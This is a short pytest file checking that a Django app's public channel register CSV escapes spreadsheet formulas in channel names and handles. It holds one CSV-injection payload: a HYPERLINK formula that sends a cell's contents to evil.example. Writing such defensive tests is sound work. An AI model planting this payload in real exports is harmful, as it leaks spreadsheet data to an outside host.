"""The public register's CSV opened in a spreadsheet: a channel name cannot run as a formula."""

import csv
import io

import pytest

from accounts.models import Channel

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")'


def test_a_hostile_channel_name_is_written_as_text_in_the_register_csv(client, org):
    # Given an active channel whose name (and handle) is a spreadsheet formula
    Channel.objects.filter(pk=org.channels["a"].pk).update(name=HYPERLINK, handle="@SUM(A1)")

    # When anybody downloads the register
    response = client.get("/channels/register.csv")

    # Then those cells start with an apostrophe, and the plain cells are as they were
    rows = {
        row["owning_unit"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))
    }
    hostile = rows["Afdeling A"]
    assert hostile["name"] == "'" + HYPERLINK
    assert hostile["handle"] == "'@SUM(A1)"
    assert (hostile["platform"], hostile["owning_unit"]) == ("facebook", "Afdeling A")
    assert rows["Afdeling B"]["name"] == org.channels["b"].name
